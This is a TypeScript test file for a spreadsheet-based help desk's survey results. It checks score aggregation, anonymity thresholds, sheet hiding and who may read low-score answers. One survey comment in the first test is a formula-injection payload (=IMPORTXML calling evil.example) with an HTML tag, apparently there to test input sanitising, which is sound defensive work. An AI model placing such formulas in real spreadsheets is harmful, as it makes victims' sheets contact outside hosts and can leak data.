/** The survey results: what customers say together, and that nobody reads a single anonymous answer off them. */
import { surveyLinksIn } from '../../workbench/driver/deskForms';
import type { DrivenDesk } from '../../workbench/driver/openDesk';
import { openDesk } from '../../workbench/driver/openDesk';
import { faultsOf, refusalOf } from './deskFacts';
import { OWNER, REGISTRAR, staffOf, SUPERVISOR, WORKER } from './deskStaff';
import { complaintOf, confirmed, smallDesk, worldOf } from './worlds';

type Answers = Readonly<Record<string, string | number>>;

/** A complaint that came to the survey and was answered, on a desk in English. */
function answered(
  desk: DrivenDesk,
  name: string,
  answers: Answers,
  category: Readonly<Record<string, string>>,
): string {
  const mailAddress = `${name.toLowerCase()}@example.org`;
  // By the phone of the others they would be one customer, who is not asked again so soon.
  const ticketNo = confirmed(desk, { ...complaintOf(name), ...category, customer: { name, mail: mailAddress } });
  desk.advance('PT1H');
  const mail = desk.mails().filter(({ to }) => to.includes(mailAddress));
  const link = mail.flatMap(({ body }) => surveyLinksIn(body)).at(-1) ?? '';
  desk.submitForm('survey', withReasons(answers), link);
  return ticketNo;
}

/** The form asks why a score is low: what there is to say is said there, of the first one, and not a second time at the end. */
function withReasons(answers: Answers): Answers {
  const low = Object.keys(answers).filter((name) => Number(answers[name]) <= 3);
  if (low.length === 0) return answers;
  const scores = Object.entries(answers).filter(([, answer]) => typeof answer === 'number');
  const [said = '-'] = Object.values(answers).filter((answer) => typeof answer === 'string');
  const reasons = low.map((name, index) => [name.replace('q', 'r'), index === 0 ? said : '-'] as const);
  return Object.fromEntries([...scores, ...reasons]);
}

/** The rows with figures. */
const figures = (desk: DrivenDesk) =>
  desk
    .rows('results')
    .filter(({ period }) => period !== '')
    .map(({ period, answers, score1, score2, score3, score4, score5, mean, low, contacted }) => [
      period,
      answers,
      [score1, score2, score3, score4, score5],
      mean,
      low,
      contacted,
    ]);
const words = (desk: DrivenDesk) =>
  desk
    .rows('results')
    .filter(({ word }) => word !== '')
    .map(({ word, wordAnswers, wordLow }) => [word, wordAnswers, wordLow]);
/** Means of groups of tickets, beside the charts of the review. */
const satisfied = (desk: DrivenDesk) =>
  desk
    .rows('pivots')
    .filter(({ group }) => group !== '')
    .map(({ figure, group, mean, answers }) => [figure, group, mean, answers]);
const refresh = (desk: DrivenDesk) => desk.as(SUPERVISOR).call('refreshReviews', {});
const isHidden = (desk: DrivenDesk, title: string) => desk.runtime.tabs().find(({ name }) => name === title)?.hidden;

describe('where each answer may be known', () => {
  const CSAT = { category1: 'Technical fault', category2: 'Cannot log in' };
  let fresh: () => DrivenDesk;
  beforeAll(async () => {
    fresh = worldOf(await smallDesk({ deployment: 'addOn' }));
  });

  test('the results say how scores are spread, month by month, what many wrote, and who was called', () => {
    const desk = fresh();
    expect(figures(desk)).toEqual([['All', '', ['', '', '', '', ''], '', '', '']]);
    const low = answered(desk, 'Ada', { q1: 1, q2: 'The delivery was slow, slow, slow' }, CSAT);
    answered(desk, 'Ben', { q1: 5, q2: 'Friendly. Delivery a bit slow' }, CSAT);
    desk.advance('P31D');
    answered(desk, 'Cleo', { q1: 2, q2: '=IMPORTXML("http://evil.example") <b>delivery</b>' }, CSAT);
    desk.as(SUPERVISOR).call('contactLowScore', { ticketNo: low, reason: 'A lost parcel.', note: 'Sent anew.' });
    desk.advance('P1D');
    expect(figures(desk)).toEqual([
      ['All', 3, [1, 1, 0, 0, 1], expect.closeTo(8 / 3), 2, 1],
      ['2026-04', 1, [0, 1, 0, 0, 0], 2, 1, 0],
      ['2026-03', 2, [1, 0, 0, 0, 1], 3, 1, 1],
    ]);
    expect(words(desk)).toEqual([
      ['delivery', 3, 2],
      ['slow', 2, 1],
    ]);
    expect(faultsOf(desk)).toEqual([]);
  });

  test('the supervisor has them counted now, in few calls; an agent may not', () => {
    const desk = fresh();
    answered(desk, 'Ada', { q1: 4 }, CSAT);
    desk.resetCost();
    refresh(desk);
    expect(desk.cost().calls).toBeLessThanOrEqual(24);
    expect(figures(desk)[0]).toEqual(['All', 1, [0, 0, 0, 1, 0], 4, 0, 0]);
    expect(refusalOf(() => desk.as(WORKER).call('refreshReviews', {}))?.code).toBe('NOT_ALLOWED');
    desk.runtime.as(SUPERVISOR).clickMenu('refreshResults');
    expect(figures(desk)).toHaveLength(2);
  });

  test('answers to no survey, too late or twice are no figures', () => {
    const desk = fresh();
    answered(desk, 'Ada', { q1: 4 }, CSAT);
    desk.submitForm('survey', { q1: 1, r1: 'No link' });
    const again = desk.mails().flatMap(({ body }) => surveyLinksIn(body));
    desk.submitForm('survey', { q1: 1, r1: 'Once more' }, again.at(-1));
    refresh(desk);
    expect(desk.rows('surveys')).toHaveLength(3);
    expect(figures(desk)[0]).toEqual(['All', 1, [0, 0, 0, 1, 0], 4, 0, 0]);
  });

  test('repair brings the sheet back with its figures, and a hand edit lasts till the next count', () => {
    const desk = fresh();
    answered(desk, 'Ada', { q1: 4 }, CSAT);
    refresh(desk);
    const before = desk.rows('results');
    desk.as(OWNER).deleteTab('results');
    refresh(desk);
    desk.runtime.as(OWNER).clickMenu('repairDesk');
    expect(desk.rows('results')).toEqual(before);
    desk.as(OWNER).edit('results', 'All', 'answers', '999');
    refresh(desk);
    expect(desk.rows('results')).toEqual(before);
  });

  test('whoever may call the customer reads on the card what was answered, until it is done', () => {
    const desk = fresh();
    const ticketNo = answered(desk, 'Ada', { q1: 2, q2: 'Nobody rang back' }, CSAT);
    const card = (mail: string) => desk.as(mail).call<{ lowAnswer: unknown }>('getTicket', { ticketNo }).lowAnswer;
    desk.resetCost();
    expect(card(SUPERVISOR)).toEqual({
      scores: [{ question: expect.stringContaining('satisfied') as string, score: 2, label: 'Dissatisfied' }],
      suggestion: 'Nobody rang back',
    });
    expect(desk.cost().calls).toBeLessThanOrEqual(12);
    expect(card(WORKER)).toBeNull();
    desk.as(SUPERVISOR).call('contactLowScore', { ticketNo, reason: 'No call.', note: 'Called.' });
    expect(card(SUPERVISOR)).toBeNull();
  });
});

describe('where answers are anonymous', () => {
  const ASKED = { category1: 'Question', category2: 'About a procedure' };
  let fresh: () => DrivenDesk;
  beforeAll(async () => {
    const people = staffOf('en', 'Customer service', 'Product department');
    const desk = await openDesk({
      pack: 'service-standard',
      language: 'en',
      startAt: '2026-03-02T09:00:00+08:00',
      deployment: 'addOn',
      people,
    });
    fresh = worldOf(desk);
  });

  test('nothing is said of fewer than three, and none of a day that is not over', () => {
    const desk = fresh();
    const nothing = ['', ['', '', '', '', ''], '', '', ''];
    answered(desk, 'Ada', { q1: 1, q2: 5, q3: 4, q4: 'The form is confusing' }, ASKED);
    answered(desk, 'Ben', { q1: 3, q2: 5, q3: 4, q4: 'A confusing form' }, ASKED);
    desk.advance('P1D');
    expect(figures(desk)).toEqual([
      ['All', ...nothing],
      ['All', ...nothing],
      ['All', ...nothing],
    ]);
    expect(words(desk)).toEqual([]);
    expect(satisfied(desk)).toEqual([]);
    answered(desk, 'Cleo', { q1: 5, q2: 5, q3: 5, q4: 'That form is confusing' }, ASKED);
    refresh(desk);
    expect(figures(desk)[0]).toEqual(['All', ...nothing]);
    desk.advance('P1D');
    const three: readonly (readonly unknown[])[] = [
      [3, [1, 0, 1, 0, 1], 3, 2, 0],
      [3, [0, 0, 0, 0, 3], 5, '', ''],
      [3, [0, 0, 0, 2, 1], expect.closeTo(13 / 3), '', ''],
    ];
    expect(figures(desk)).toEqual(['All', '2026-03'].flatMap((period) => three.map((line) => [period, ...line])));
    expect(words(desk)).toEqual([
      ['confusing', 3, 2],
      ['form', 3, 2],
    ]);
    const groups = ['kind', 'category', 'channel', 'person', 'month of receipt'];
    expect(satisfied(desk).map(([figure]) => figure)).toEqual(groups.map((group) => `Satisfaction by ${group}`));
    for (const [, , mean, of] of satisfied(desk)) expect([mean, of]).toEqual([expect.closeTo((10 / 3 + 4 + 5) / 3), 3]);
    expect(
      desk
        .rows('phrases')
        .filter(({ topic, example }) => topic === 'Survey comments by score' && String(example).includes('form')),
    ).toEqual([]);
    answered(desk, 'Dan', { q1: 1, q2: 1, q3: 1, q4: 'Never again' }, ASKED);
    desk.advance('P1D');
    expect(figures(desk)[0]).toEqual(['All', ...(three[0] ?? [])]);
    expect(satisfied(desk).map(([, , , of]) => of)).toEqual(groups.map(() => 3));
    expect(faultsOf(desk)).toEqual([]);
  });

  test('the sheet of single answers is put away, hidden again by repair, and shown by a process that has no secrets', () => {
    const desk = fresh();
    expect(isHidden(desk, 'Surveys')).toBe(true);
    expect(isHidden(desk, 'Survey results')).toBe(false);
    desk
      .as(OWNER)
      .call('setUp', { pack: 'rapid-response', language: 'en', timeZone: 'Asia/Shanghai', switchPack: true });
    expect(isHidden(desk, 'Surveys')).toBe(false);
    desk
      .as(OWNER)
      .call('setUp', { pack: 'service-standard', language: 'en', timeZone: 'Asia/Shanghai', switchPack: true });
    expect(isHidden(desk, 'Surveys')).toBe(true);
  });

  test('answers to the questions of a former process are no figures of this one', () => {
    const desk = fresh();
    for (const name of ['Ada', 'Ben', 'Cleo']) answered(desk, name, { q1: 1, q2: 1, q3: 1 }, ASKED);
    desk
      .as(OWNER)
      .call('setUp', { pack: 'rapid-response', language: 'en', timeZone: 'Asia/Shanghai', switchPack: true });
    expect(figures(desk)).toEqual([['All', '', ['', '', '', '', ''], '', '', '']]);
  });

  test('the supervisor alone reads the answer of whom to call', () => {
    const desk = fresh();
    const ticketNo = answered(desk, 'Ada', { q1: 1, q2: 5, q3: 5, q4: 'Too slow' }, ASKED);
    const card = (mail: string) => desk.as(mail).call<{ lowAnswer: unknown }>('getTicket', { ticketNo }).lowAnswer;
    expect(card(SUPERVISOR)).toMatchObject({
      scores: [{ question: 'Speed of response', score: 1, label: 'Very slow' }, { score: 5 }, { score: 5 }],
      suggestion: 'Too slow',
    });
    for (const mail of [WORKER, REGISTRAR]) expect(card(mail)).toBeNull();
  });
});
